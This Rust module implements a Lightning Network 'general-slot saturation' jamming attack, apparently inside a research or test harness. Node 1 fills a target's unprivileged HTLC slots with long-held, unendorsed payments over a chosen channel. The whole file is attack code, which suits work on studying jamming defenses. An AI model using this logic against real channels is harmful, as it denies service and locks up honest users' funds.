//! General-slot saturation.
//!
//! Node 1 fills the target's unprivileged slot pool toward its peer with
//! long-held, unendorsed, dust-adjacent payments over a chosen final channel.
//! The batch is returned as soon as it is dispatched; the caller drains it in
//! the background and releases it through the shared cancel signal once the
//! protected pool has been dealt with.

use crate::hold::safe_hold_duration;
use crate::payment::{JamPair, PaymentRequest};
use crate::{
    AttackContext, AttackResult, PhaseExt, ShortChannelId, REPUTATION_NODE, SINK_NODE,
};
use std::time::Duration;
use tokio_util::sync::CancellationToken;
use tracing::{debug, info};

/// Dispatch one general-pool's worth of held jams from node 1 to node 2 over
/// `last_channel`, each released early when `cancel` fires.
pub async fn jam_general_slots(
    ctx: &AttackContext,
    last_channel: ShortChannelId,
    requested_hold: Duration,
    cancel: &CancellationToken,
) -> AttackResult<Vec<JamPair>> {
    let amount = ctx.config().jam_amount_msat;

    let mut route = ctx
        .query_route(REPUTATION_NODE, SINK_NODE, amount)
        .await
        .in_phase("1 -> 2")?;
    route.redirect_final_hop(last_channel)?;

    let hold = safe_hold_duration(ctx, &route, REPUTATION_NODE, requested_hold).await?;
    let count = ctx.slots().general_count();
    let log_interval = ctx.config().progress_log_interval as usize;

    let mut jams = Vec::with_capacity(count);
    for i in 0..count {
        if i % log_interval == 0 && i != 0 {
            debug!("Sent {i} general jams");
        }

        let request = PaymentRequest::held(amount, REPUTATION_NODE, SINK_NODE, false, hold)
            .with_early_cancel(cancel.clone());
        let pending = ctx
            .dispatch(request.clone(), &route)
            .await
            .in_phase(format!("general jam {i}"))?;

        jams.push(JamPair { request, pending });
    }

    info!(
        "Dispatched {} general jams over {last_channel} held for {:?}",
        jams.len(),
        hold
    );
    Ok(jams)
}
